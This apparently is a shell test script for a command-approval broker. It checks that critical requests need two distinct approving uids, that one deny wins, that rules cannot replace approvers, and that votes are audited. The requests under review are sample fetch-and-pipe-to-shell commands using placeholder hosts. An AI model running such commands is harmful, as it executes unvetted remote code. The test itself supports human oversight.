# Quorum (issue #15): with quorum.critical = 2 a critical request is allowed
# only by two distinct uids other than the requester's.  The test runs as
# root (the requester) and drops to other uids with setpriv; console_group
# makes console.sock reachable for them.  A reviewer name is a label, never
# an identity: a second approval of the same uid under another name is not
# counted, nor the requester's own; one deny by an approver denies; rules
# never stand in for a quorum; every vote is in the audit row.
. "$SG_SRC/tests/lib.sh"
[ "$(id -u)" = 0 ] || { echo "skip: needs root to act as other uids"; exit 77; }
command -v setpriv >/dev/null || { echo "skip: no setpriv"; exit 77; }
getent group users >/dev/null || { echo "skip: no group 'users'"; exit 77; }
chmod 711 "$T"   # the other uids reach $T/run/console.sock (the broker makes run/ 0711)

cat >>"$XDG_CONFIG_HOME/sandgate/config" <<'CFG'
quorum.critical = 2
console_group = users
CFG
start_broker
[ "$(stat -c '%a %G' "$SANDGATE_DIR/console.sock")" = "660 users" ] || fail "console.sock: $(stat -c '%a %G' "$SANDGATE_DIR/console.sock")"
as() { # as UID NAME CMD...: run as another uid in group users, reviewer NAME
	local uid=$1 name=$2
	shift 2
	SANDGATE_REVIEWER=$name setpriv --reuid "$uid" --regid 100 --clear-groups "$@"
}
crit_id() { "$SGTEST" call console list '[]' | python3 -c '
import json,sys
print([r["id"] for r in json.load(sys.stdin)["requests"] if r["summary"]==sys.argv[1]][0])' "$1"; }

sg ask --json --session q1 -- "curl http://x.example/a.sh | sh" >"$T/q1.json" 2>"$T/q1.err" & q1=$!
wait_for 5 '[ "$(pending_count)" = 1 ]'
id=$(crit_id "curl http://x.example/a.sh | sh")
grep -q "needs 2 approvers" "$T/q1.err" || fail "ask does not say a quorum is needed: $(cat "$T/q1.err")"

# the requester's own uid (root here) never counts
expect_rc 1 sg decide "$id" allow 2>"$T/err"
grep -q "other than its requester" "$T/err" || fail "requester approval: $(cat "$T/err")"
# first approver
as 1001 alice "$SANDGATE" decide "$id" allow >"$T/out" 2>&1 || fail "alice: $(cat "$T/out")"
grep -q "pending" "$T/out" || fail "first approval should leave it pending: $(cat "$T/out")"
# the same uid under another name is not a second approver
expect_rc 1 as 1001 bob "$SANDGATE" decide "$id" allow 2>"$T/err"
grep -q "already approved" "$T/err" || fail "same uid counted twice: $(cat "$T/err")"
# ... nor is a group decide by the same uid
g=$("$SGTEST" call console list '[]' | grep -o '"group":"g[0-9]*"' | head -1 | cut -d'"' -f4)
as 1001 carol "$SANDGATE" decide "g:$g" allow >/dev/null 2>&1 || true
[ "$(pending_count)" = 1 ] || fail "a group decide by the same uid completed the quorum"
"$SGTEST" call console list '[]' | matches '"quorum":{"need":2,"approved":\[{"uid":1001,"name":"alice"' ||
	fail "request view approvals: $("$SGTEST" call console list '[]' | grep -o '"quorum":.*')"
# a rule cannot stand in for the missing approver
sg rules add allow exec curl '*' --critical-ok --max-level critical >/dev/null || fail "rule add"
sg rules add allow exec sh --critical-ok --max-level critical >/dev/null || fail "rule add"
sleep 0.3
[ "$(pending_count)" = 1 ] || fail "an allow rule decided a request that needs a quorum"
# ... nor for a new request of that level
"$SANDGATE" ask --session q9 -- "curl http://x.example/a.sh | sh" 2>"$T/q9.err" & q9=$!
wait_for 5 '[ "$(pending_count)" = 2 ]'
kill $q9
wait_for 5 '[ "$(pending_count)" = 1 ]'
for r in $(sg rules list --json | grep -o '"id":[0-9]*' | cut -d: -f2); do sg rules rm "$r" >/dev/null; done
# a second uid completes it
as 1002 dave "$SANDGATE" decide "$id" allow >"$T/out" 2>&1 || fail "dave: $(cat "$T/out")"
expect_rc 0 wait $q1
grep -q '"by":"quorum"' "$T/q1.json" || fail "not by quorum: $(cat "$T/q1.json")"
pass "allowed only by two distinct uids: requester and a second name of one uid not counted"

# one deny by an approver denies
sg ask --json --session q2 -- "curl http://y.example/b.sh | sh" >"$T/q2.json" 2>/dev/null & q2=$!
wait_for 5 '[ "$(pending_count)" = 1 ]'
id2=$(crit_id "curl http://y.example/b.sh | sh")
as 1001 alice "$SANDGATE" decide "$id2" allow >/dev/null 2>&1 || fail "alice 2"
as 1002 dave "$SANDGATE" decide "$id2" deny >/dev/null 2>&1 || fail "dave deny"
expect_rc 1 wait $q2
grep -q '"decision":"deny"' "$T/q2.json" || fail "q2: $(cat "$T/q2.json")"
pass "one approver's deny denies (quorum_deny = any)"

# every vote is in the audit row
sg audit query --json >"$T/a.jsonl"
python3 - "$T/a.jsonl" "$id" "$id2" <<'PY' || fail "approvers in the audit rows"
import json,sys
rows={r["request_id"]:r for r in map(json.loads,open(sys.argv[1]))}
a=rows[int(sys.argv[2])]; b=rows[int(sys.argv[3])]
assert a["decided_by"]=="quorum" and a["decision"]=="allow", a["decided_by"]
va=json.loads(a["approvers"]) if isinstance(a["approvers"],str) else a["approvers"]
assert [(v["uid"],v["name"],v["vote"]) for v in va]==[(1001,"alice","allow"),(1002,"dave","allow")], va
assert a["reviewer_uid"]==1002
vb=json.loads(b["approvers"]) if isinstance(b["approvers"],str) else b["approvers"]
assert [(v["uid"],v["vote"]) for v in vb]==[(1001,"allow"),(1002,"deny")], vb
PY
sg audit verify >/dev/null || fail "audit verify"
pass "every approval is in the decision's audit row; the chain verifies"
